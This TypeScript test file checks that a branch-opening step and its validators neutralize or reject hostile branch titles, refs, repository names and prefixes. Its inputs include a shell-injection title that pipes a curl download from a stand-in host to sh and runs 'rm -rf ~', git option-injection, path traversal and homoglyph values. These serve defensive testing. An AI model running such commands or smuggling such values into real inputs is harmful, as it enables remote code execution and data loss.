import { readPolicy } from '../../../src/config/repository.ts';
import { defaultPolicy } from '../../../src/domain/policy.ts';
import { assertRepository } from '../../../src/domain/repository-name.ts';
import { assertRef } from '../../../src/git/path-rules.ts';
import { openBranch } from '../../../src/steps/open-branch.ts';
import { fakeCommits } from '../../support/fake-commits.ts';
import { sampleFix, sha } from '../../support/sample-fix.ts';
import type { HostileArea, HostileCase } from '../hostile-case.ts';

const base = { [sha('a')]: { tree: sha('e'), parents: [], message: 'the base' } };

/** Every ref that was written is a plain word below the prefix: it means nothing to git, to a shell, or in an address. */
const title = (name: string, text: string): HostileCase => ({
  name,
  expected: 'inert',
  attack: async () => {
    const commits = fakeCommits(base);
    await openBranch({ commits }, sampleFix(), { base: sha('a'), baseBranch: 'main', title: text });
    const refs = [...commits.refs.keys()];
    const isPlain = refs.every((ref) => /^refs\/heads\/ai-fix\/12-[a-z0-9]+(?:-[a-z0-9]+)*$/.test(ref));
    return refs.length === 1 && isPlain && (refs[0]?.length ?? 0) < 100 ? 'inert' : `escaped: ${JSON.stringify(refs)}`;
  },
});

const titles: readonly HostileCase[] = [
  title('a title that climbs out of the prefix', '../../heads/main'),
  title('a title with a command for a shell', '$(curl evil.test|sh); `id` && rm -rf ~'),
  title('a title that is an option', '--upload-pack=touch /tmp/x'),
  title('a title that is a refspec', '+refs/heads/*:refs/heads/main'),
  title('a title that ends in .lock', 'main.lock'),
  title('a title with the signs of a revision', 'main@{1}^~2..HEAD'),
  title('a title of invisible characters and turns', '\u202e\u200b\u{e0041}\0\r\n'),
  title('a title that becomes slashes when it is normalized', '\u2100\uff0f\u2024\u2024\uff0fmain'),
  title('a title of 100,000 characters', '../a'.repeat(25_000)),
];

const throws = (name: string, attempt: () => void): HostileCase => ({
  name,
  expected: 'rejected',
  attack: () => {
    try {
      attempt();
    } catch (error) {
      if (error instanceof TypeError) return 'rejected';
      throw error;
    }
    return 'escaped: it was taken';
  },
});

/** @throws {Error} where not even an honest ref is taken: no attack could then show anything. */
const ref = (name: string, text: string): HostileCase =>
  throws(name, () => {
    assertRef('refs/ai-fix/f-12-sample01/1');
    assertRef(text);
  });

const refs: readonly HostileCase[] = [
  ref('a push to a tag', 'refs/tags/v1'),
  ref("a push to another App's place", 'refs/pull/1/head'),
  ref('a push to HEAD', 'HEAD'),
  ref('a branch that is called HEAD', 'refs/heads/HEAD'),
  ref('a ref that climbs', 'refs/heads/../tags/v1'),
  ref('a ref that is a refspec', 'refs/heads/a:refs/heads/main'),
  ref('a ref that forces', '+refs/heads/main'),
  ref('a ref of all branches', 'refs/heads/*'),
  ref('a branch that is an option', 'refs/heads/--force'),
  ref('a ref with a line end', 'refs/heads/a\nrefs/heads/main'),
  ref('a ref that is a lock', 'refs/heads/main.lock'),
  ref('a ref with half a character', 'refs/heads/\ud800'),
  ref('a ref longer than a file name', `refs/heads/${'a'.repeat(300)}`),
];

const place = (name: string, owner: string, repository: string): HostileCase =>
  throws(name, () => {
    assertRepository({ installationId: 7, owner: 'acme', name: 'shop' });
    assertRepository({ installationId: 7, owner, name: repository });
  });

const places: readonly HostileCase[] = [
  place('a repository that is called ..', 'acme', '..'),
  place('a repository with a slash', 'acme', 'shop/../other'),
  place('a repository with an address inside', 'acme', 'shop@evil.test'),
  place('a repository that is the wiki of another', 'acme', 'shop.wiki'),
  place('a repository that is another by .git', 'acme', 'shop.GIT'),
  place('an owner that is an option', '--config', 'shop'),
  place('an owner with a line end', 'acme\n', 'shop'),
  place('an owner in letters that look alike', '\u0430cme', 'shop'),
];

const prefix = (name: string, text: string): HostileCase => ({
  name,
  expected: 'rejected',
  attack: () => {
    const set = (value: string) => readPolicy(`branches: { prefix: ${JSON.stringify(value)} }\n`);
    if (set('bot/').kind !== 'valid') throw new Error('an honest prefix is not taken');
    const answer = set(text);
    return answer.kind === 'invalid' ? 'rejected' : `escaped: ${answer.policy.branches.prefix}`;
  },
});

/** A prefix that the settings take must be one that git takes too: else the fix dies at its first push. */
const takenPrefix = (name: string, text: string): HostileCase => ({
  name,
  expected: 'rejected',
  attack: async () => {
    const answer = readPolicy(`branches: { prefix: ${JSON.stringify(text)} }\n`);
    if (answer.kind === 'invalid') return 'rejected';
    const commits = fakeCommits(base);
    const fix = sampleFix({ policy: { ...defaultPolicy, branches: answer.policy.branches } });
    await openBranch({ commits }, fix, { base: sha('a'), baseBranch: 'main', title: 'x' });
    return `escaped: ${[...commits.refs.keys()].join()}`;
  },
});

const prefixes: readonly HostileCase[] = [
  prefix('a prefix that climbs', '../'),
  prefix('a prefix that is no folder', 'main'),
  prefix('a prefix that is an option', '-f/'),
  prefix('a prefix with a line end', 'a/\n'),
  prefix('a prefix with a place inside', 'refs/heads/'),
  prefix('a prefix that is a refspec', 'a:b/'),
  takenPrefix('a prefix with two dots, which git forbids', 'a..b/'),
  takenPrefix('a prefix that ends in .lock, which git forbids', 'bot.lock/'),
  takenPrefix('a prefix of 300 characters', `${'a'.repeat(300)}/`),
];

export const branchNames: HostileArea = {
  area: 'branch names and refs',
  cases: [...titles, ...refs, ...places, ...prefixes],
};
